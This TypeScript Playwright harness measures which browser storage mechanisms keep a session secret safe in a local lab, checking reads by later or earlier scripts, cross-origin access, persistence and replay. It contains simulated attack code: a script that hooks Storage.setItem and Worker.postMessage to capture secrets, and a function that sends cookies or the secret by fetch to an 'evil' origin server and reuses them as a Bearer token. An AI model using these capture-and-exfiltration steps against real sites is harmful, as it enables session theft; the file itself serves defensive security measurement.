import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, BrowserType, Page } from '@playwright/test';
import { namesOfEmptyWindow, readReachable } from './reachable.ts';
import { type SecondOrigin, startSecondOrigin } from './second-origin.ts';
import { SECRET, STORAGES, type Storage, startStorageLab } from './storage-lab.ts';

type Answer = 'yes' | 'no';
/** What was observed about one storage, by the question. */
export type StorageRow = { storage: Storage } & Record<Question, Answer>;

export const QUESTIONS = {
  readLate: 'a script that comes later reads it',
  readFirst: 'a script that was there first reads it',
  readFromElsewhere: 'another origin reads it',
  reload: 'survives a reload',
  newTab: 'is there in a new tab',
  restart: 'survives a restart of the browser',
  used: 'a script in the page acts with it, without reading it',
  carriedAway: 'one that comes later carries it away, and it is used elsewhere',
} as const;
export type Question = keyof typeof QUESTIONS;

const yes = (is: boolean): Answer => (is ? 'yes' : 'no');

/** Asks the page who it is, with whatever it has kept. The honest page and a rogue script ask the same way. */
const who = (page: Page) => page.evaluate('ask()').then(String);
const isKnown = async (page: Page) => (await who(page)) === 'somebody known';

async function openSignedIn(context: BrowserContext, url: string, before = '') {
  const page = await context.newPage();
  if (before) await page.addInitScript(before);
  await page.goto(url);
  await page.evaluate('begin()');
  if (!(await isKnown(page))) throw new Error(`The lab does not work at ${url}`);
  return page;
}

/** A script that was in the page before the honest one, and listens to what is kept where. */
const LISTENING = `
  window.caught = [];
  for (const [owner, name] of [[Storage.prototype, 'setItem'], [Worker.prototype, 'postMessage']]) {
    const honest = owner[name];
    owner[name] = function (...given) {
      window.caught.push(JSON.stringify(given));
      return honest.apply(this, given);
    };
  }`;

async function readsLater(page: Page, names: string[]): Promise<boolean> {
  const seen = await readReachable(page, names);
  return seen.some(({ place, text }) => place !== 'document' && text.includes(SECRET));
}

/** Another site frames the page, opens it, and asks its server, and takes whatever it can read. */
async function readsFromElsewhere(context: BrowserContext, url: string, evil: SecondOrigin) {
  const page = await context.newPage();
  await page.goto(evil.serve(`<iframe src="${url}"></iframe>`));
  const taken = await page.evaluate(async (address) => {
    const frame = document.querySelector('iframe') as HTMLIFrameElement;
    const opened = window.open(address);
    await new Promise((done) => setTimeout(done, 300));
    const attempts: (() => unknown)[] = [];
    for (const target of [frame.contentWindow, opened])
      attempts.push(
        () => target?.document.cookie,
        () => target?.localStorage['secret'],
        () => target?.sessionStorage['secret'],
        () => (target as unknown as { vault: unknown }).vault,
      );
    attempts.push(() => fetch(address, { credentials: 'include' }).then((one) => one.text()));
    const results: string[] = [localStorage['secret'], document.cookie].map(String);
    for (const attempt of attempts)
      results.push(
        await Promise.resolve()
          .then(attempt)
          .then(String, () => 'refused'),
      );
    opened?.close();
    return results;
  }, url);
  await page.close();
  if (!taken.includes('refused')) throw new Error('The second origin was not refused anything');
  return taken.some((text) => text.includes(SECRET));
}

/** Which of these pages still know who it is after the browser was ended and started again. */
async function surviveRestart(browser: BrowserType, options: object, urls: string[]) {
  const profile = mkdtempSync(join(tmpdir(), 'gatehouse-profile-'));
  try {
    const first = await browser.launchPersistentContext(profile, options);
    for (const url of urls) await openSignedIn(first, url);
    await first.close();
    const second = await browser.launchPersistentContext(profile, options);
    const survived = new Set<string>();
    for (const url of urls) {
      const page = await second.newPage();
      await page.goto(url);
      if (await isKnown(page)) survived.add(url);
    }
    await second.close();
    return survived;
  } finally {
    rmSync(profile, { recursive: true, force: true });
  }
}

/** Sends what a rogue script could read to the attacker’s server, who uses it without any browser. */
async function worksElsewhere(origin: string, hasRead: boolean, page: Page, evil: SecondOrigin) {
  const loot = hasRead ? SECRET : await page.evaluate(() => document.cookie);
  await page.evaluate(([url, text]) => fetch(url + text), [
    evil.url,
    encodeURIComponent(loot),
  ] as const);
  const stolen =
    evil.heard.findLast((one) => one.startsWith('/') && one.length > 1)?.slice(1) ?? '';
  const answer = await fetch(`${origin}/who`, { headers: { Authorization: `Bearer ${stolen}` } });
  return (await answer.text()) === 'somebody known';
}

/** Observes the storages one after the other, each in a browser context of its own. */
export async function observeStorages(browser: Browser, options: object): Promise<StorageRow[]> {
  const lab = await startStorageLab();
  const storages = Object.keys(STORAGES) as Storage[];
  const urls = storages.map(lab.pageFor);
  const survivors = await surviveRestart(browser.browserType(), options, urls);
  const rows: StorageRow[] = [];
  for (const storage of storages) {
    const url = lab.pageFor(storage);
    const evil = await startSecondOrigin();
    const context = await browser.newContext();
    const names = await namesOfEmptyWindow(await context.newPage());
    const page = await openSignedIn(context, url);
    const readLate = await readsLater(page, names);
    const used = await isKnown(page);
    const carriedAway = await worksElsewhere(lab.origin, readLate, page, evil);
    const readFromElsewhere = await readsFromElsewhere(context, url, evil);
    await page.reload();
    const reload = await isKnown(page);
    const tab = await context.newPage();
    await tab.goto(url);
    const newTab = await isKnown(tab);
    await context.close();
    const caught = await browser.newContext();
    const early = await openSignedIn(caught, url, LISTENING);
    const readFirst =
      readLate || String(await early.evaluate('String(window.caught)')).includes(SECRET);
    await caught.close();
    const restart = survivors.has(url);
    evil.close();
    const observed = {
      readLate,
      readFirst,
      readFromElsewhere,
      reload,
      newTab,
      restart,
      used,
      carriedAway,
    };
    rows.push({
      storage,
      ...(Object.fromEntries(
        Object.entries(observed).map(([question, is]) => [question, yes(is)]),
      ) as Record<Question, Answer>),
    });
  }
  lab.close();
  return rows;
}
